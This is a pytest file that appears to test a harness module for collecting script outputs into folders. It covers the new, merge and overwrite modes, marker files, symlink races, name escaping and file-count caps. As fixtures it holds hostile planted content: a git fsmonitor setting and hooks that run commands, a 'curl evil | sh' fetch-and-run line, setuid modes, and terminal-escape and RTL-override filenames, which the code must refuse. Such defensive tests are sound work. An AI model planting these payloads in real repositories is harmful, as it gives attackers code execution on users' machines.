"""Where outputs may land: fresh folders, --merge, --overwrite, and names a script must not plant."""

from __future__ import annotations

import io
import json
import os
import stat
import tarfile
from pathlib import Path

import pytest

from harness.errors import ConfigError, InputError
from harness.execution.outputs import (
    MARKER,
    Collected,
    check_destination,
    collect_outputs,
    is_harness_output,
    output_mode,
    prepare_destination,
    retry_mode,
    safe_name,
)
from harness.records import Artifact


def tar_of(files: dict[str, bytes], *, dirs: tuple[str, ...] = (), mode: int = 0o644) -> io.BytesIO:
    """A tar stream like the entrypoint's (GNU format, so any bytes can be a name)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.GNU_FORMAT) as tar:
        for name in dirs:
            info = tarfile.TarInfo(name)
            info.type, info.mode = tarfile.DIRTYPE, 0o777
            tar.addfile(info)
        for name, data in files.items():
            info = tarfile.TarInfo(name)
            info.size, info.mode = len(data), mode
            tar.addfile(info, io.BytesIO(data))
    buf.seek(0)
    return buf


def collect(files: dict[str, bytes], dest: Path, max_files: int = 10_000) -> Collected:
    return collect_outputs(tar_of(files), dest, cap=1 << 20, declared={}, max_files=max_files)


def tree(root: Path) -> dict[str, bytes | None]:
    """Every path under ``root`` (symlinks not followed) with its bytes, None for folders."""
    found: dict[str, bytes | None] = {}
    for folder, dirs, files in os.walk(root):
        for name in dirs:
            found[os.path.relpath(os.path.join(folder, name), root)] = None
        for name in files:
            path = os.path.join(folder, name)
            found[os.path.relpath(path, root)] = b"<link>" if os.path.islink(path) else Path(path).read_bytes()
    return found


# -- the destination ---------------------------------------------------------------------------------


def test_a_new_folder_is_made_and_marked(tmp_path: Path) -> None:
    dest = prepare_destination(tmp_path / "a" / "out", "new", "run1")
    assert is_harness_output(dest)
    assert json.loads((dest / MARKER).read_text()) == {"harness_output": 1, "run_id": "run1"}
    assert stat.S_IMODE((dest / MARKER).stat().st_mode) & 0o111 == 0


def test_a_non_empty_folder_is_refused_naming_both_modes(tmp_path: Path) -> None:
    from harness.cli.hints import error_line

    (tmp_path / "notes.txt").write_text("mine")
    with pytest.raises(InputError) as caught:
        prepare_destination(tmp_path, "new", "run1")
    # The library names the modes; the CLI words them as its flags.
    assert "merge" in caught.value.hint and "overwrite" in caught.value.hint and "--" not in caught.value.hint
    assert "--merge" in error_line(caught.value) and "--overwrite" in error_line(caught.value)
    assert tree(tmp_path) == {"notes.txt": b"mine"}


def test_an_empty_existing_folder_is_taken_as_new(tmp_path: Path) -> None:
    assert is_harness_output(prepare_destination(tmp_path, "new", "run1"))


def test_merge_never_marks_a_folder_it_did_not_make(tmp_path: Path) -> None:
    # A marker in a merged folder would let a later --overwrite wipe it.
    (tmp_path / "notes.txt").write_text("mine")
    prepare_destination(tmp_path, "merge", "run1")
    assert not (tmp_path / MARKER).exists()
    with pytest.raises(InputError, match="not made by harness"):
        prepare_destination(tmp_path, "overwrite", "run2")


def test_overwrite_refuses_a_folder_without_the_marker(tmp_path: Path) -> None:
    checkout = tmp_path / "checkout"
    (checkout / ".git").mkdir(parents=True)
    (checkout / "src.py").write_text("code")
    before = tree(checkout)
    with pytest.raises(InputError, match="--overwrite refused"):
        prepare_destination(checkout, "overwrite", "run1")
    assert tree(checkout) == before


def test_overwrite_refuses_a_marker_that_is_a_symlink(tmp_path: Path) -> None:
    (tmp_path / "real-marker").write_text("{}")
    home = tmp_path / "home"
    home.mkdir()
    (home / "precious").write_text("keep")
    (home / MARKER).symlink_to(tmp_path / "real-marker")
    with pytest.raises(InputError, match="--overwrite refused"):
        prepare_destination(home, "overwrite", "run1")
    assert (home / "precious").read_text() == "keep"


def test_overwrite_replaces_a_folder_harness_made(tmp_path: Path) -> None:
    first = prepare_destination(tmp_path / "out", "new", "run1")
    (first / "old.txt").write_text("old")
    again = prepare_destination(tmp_path / "out", "overwrite", "run2")
    assert sorted(os.listdir(again)) == [MARKER]
    assert json.loads((again / MARKER).read_text())["run_id"] == "run2"


def test_a_file_is_not_a_destination(tmp_path: Path) -> None:
    (tmp_path / "f").write_text("x")
    with pytest.raises(InputError, match="not a folder"):
        check_destination(tmp_path / "f", "merge")


def test_flags_to_mode() -> None:
    assert output_mode(merge=False, overwrite=False) == "new"
    assert output_mode(merge=True, overwrite=False) == "merge"
    assert output_mode(merge=False, overwrite=True) == "overwrite"
    with pytest.raises(ConfigError):
        output_mode(merge=True, overwrite=True)
    assert (retry_mode("new"), retry_mode("overwrite"), retry_mode("merge")) == ("overwrite", "overwrite", "merge")


# -- what a script may plant ------------------------------------------------------------------------


def test_fsmonitor_config_and_dotfiles_are_never_written(tmp_path: Path) -> None:
    hostile = {
        ".git/config": b'[core]\n\tfsmonitor = "touch /tmp/pwned"\n',
        ".git/hooks/post-checkout": b"#!/bin/sh\ntouch /tmp/pwned\n",
        ".envrc": b"touch /tmp/pwned\n",
        "sub/.bashrc": b"x",
        "conftest.py": b"import os\n",
        "deep/sitecustomize.py": b"import os\n",
        "evil.pth": b"import os\n",
        "report.txt": b"fine",
    }
    got = collect(hostile, tmp_path)
    assert tree(tmp_path) == {"report.txt": b"fine"}
    assert [a.path for a in got.artifacts] == ["report.txt"]
    assert got.partial and len(got.warnings) == 7


def test_merge_never_overwrites_and_lists_each_conflict(tmp_path: Path) -> None:
    hook = tmp_path / "hooks" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("#!/bin/sh\nexit 0\n")
    hook.chmod(0o755)
    (tmp_path / "README.md").write_text("mine")
    prepare_destination(tmp_path, "merge", "run1")
    got = collect(
        {"hooks/pre-commit": b"#!/bin/sh\ncurl evil | sh\n", "README.md": b"theirs", "new.txt": b"n"}, tmp_path
    )
    assert hook.read_text() == "#!/bin/sh\nexit 0\n" and stat.S_IMODE(hook.stat().st_mode) == 0o755
    assert (tmp_path / "README.md").read_text() == "mine"
    assert (tmp_path / "new.txt").read_text() == "n"
    assert got.conflicts == ["hooks/pre-commit", "README.md"]
    assert got.partial and [a.path for a in got.artifacts] == ["new.txt"]


def test_no_execute_bits_whatever_the_archive_says(tmp_path: Path) -> None:
    buf = tar_of({"bin/run.sh": b"#!/bin/sh\n"}, dirs=("bin",), mode=0o4777)
    collect_outputs(buf, tmp_path, cap=1 << 20, declared={})
    assert stat.S_IMODE((tmp_path / "bin/run.sh").stat().st_mode) & 0o7111 == 0
    assert stat.S_IMODE((tmp_path / "bin").stat().st_mode) & 0o022 == 0


def test_a_symlinked_folder_in_the_destination_is_not_followed(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    (dest / "sub").symlink_to(outside)
    got = collect({"sub/planted.txt": b"x"}, dest)
    assert list(outside.iterdir()) == [] and got.partial


class _SwapAfter(io.RawIOBase):
    """An archive stream that swaps ``folder`` for a symlink to ``target`` once ``after`` bytes were read."""

    def __init__(self, data: bytes, after: int, folder: Path, target: Path) -> None:
        self.data, self.pos, self.after, self.folder, self.target = data, 0, after, folder, target
        self.swapped = False

    def readable(self) -> bool:
        return True

    def readinto(self, buf: memoryview) -> int:  # type: ignore[override]
        if self.pos >= self.after and not self.swapped and self.folder.is_dir():
            self.folder.rename(self.folder.with_name("moved-away"))
            self.folder.symlink_to(self.target)
            self.swapped = True
        chunk = self.data[self.pos : self.pos + min(len(buf), 512)]
        buf[: len(chunk)] = chunk
        self.pos += len(chunk)
        return len(chunk)


def test_a_symlink_swapped_in_mid_collection_cannot_redirect_writes(tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    dest = tmp_path / "dest"
    dest.mkdir()
    # tarfile reads 10 KiB records: the swap happens while the first file's data streams in.
    data = tar_of({"d/first.txt": b"1" * 100_000, "d/second.txt": b"2" * 10}).getvalue()
    stream = _SwapAfter(data, 50_000, dest / "d", outside)
    got = collect_outputs(io.BufferedReader(stream, 512), dest, cap=1 << 20, declared={})
    assert stream.swapped
    assert list(outside.iterdir()) == []
    assert (dest / "moved-away" / "first.txt").is_file()
    assert [a.path for a in got.artifacts] == ["d/first.txt"] and got.partial


def test_a_name_that_is_not_utf8_is_refused_and_the_rest_collected(tmp_path: Path) -> None:
    got = collect(
        {"summary-\udcff.txt": b"x", "ok.txt": b"y", "bell\x07.txt": b"z", "rtl\u202etxt.exe": b"w"}, tmp_path
    )
    assert tree(tmp_path) == {"ok.txt": b"y"}
    assert [a.path for a in got.artifacts] == ["ok.txt"]
    shown = "\n".join(got.warnings)
    assert "summary-\\xff.txt" in shown and "bell\\x07.txt" in shown and "rtl\\u202etxt.exe" in shown
    shown.encode("ascii")  # printable, and no lone surrogate to crash a JSON dump
    json.dumps([Artifact.model_validate(a.model_dump()).model_dump() for a in got.artifacts])


def test_the_file_count_is_capped_with_one_warning(tmp_path: Path) -> None:
    files = {f"f{i:05}": b"" for i in range(500)}
    got = collect(files, tmp_path, max_files=100)
    assert len(got.artifacts) == 100 and got.partial
    assert len(os.listdir(tmp_path)) == 100
    assert [w for w in got.warnings if "more than 100" in w] == got.warnings


def test_warnings_stay_few_however_many_names_are_refused(tmp_path: Path) -> None:
    got = collect({f".hidden{i}": b"" for i in range(300)}, tmp_path)
    assert len(got.warnings) == 21 and got.warnings[-1] == "and 280 more outputs not collected"


def test_safe_name_escapes_what_a_terminal_would_act_on() -> None:
    assert safe_name("a\x1b[2Kb\\c\udcff") == "a\\x1b[2Kb\\\\c\\xff"
